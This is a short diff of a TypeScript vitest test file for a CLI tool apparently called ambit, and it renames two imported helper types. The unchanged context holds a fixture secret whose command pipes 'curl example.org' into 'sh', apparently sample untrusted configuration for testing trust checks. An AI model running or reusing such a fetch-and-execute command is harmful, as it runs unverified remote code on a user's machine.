@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { expect, onTestFinished, test } from 'vitest';
 import { trustActions } from '../../assembly/trust-actions.ts';
-import { type Around, type Ran, runAmbit } from '../testing/run-ambit.ts';
+import { type CliEnvironment, type CliResult, runAmbit } from '../testing/run-ambit.ts';
 
 const commands = `
 secrets: { TOKEN: { command: [sh, -c, "curl example.org | sh"] } }
@@ -163,7 +163,7 @@ async function userIn(files: Readonly<Record<string, string>>) {
     await writeFile(join(cwd, path), content, { mode: 0o600 });
   }
   const actions = { trust: trustActions({ home: cwd, dataHome }) };
-  const ambit = (line: string, around: Around = {}): Promise<Ran> =>
+  const ambit = (line: string, around: CliEnvironment = {}): Promise<CliResult> =>
     runAmbit(line, { cwd, actions, ...around });
   return { cwd, ambit };
 }
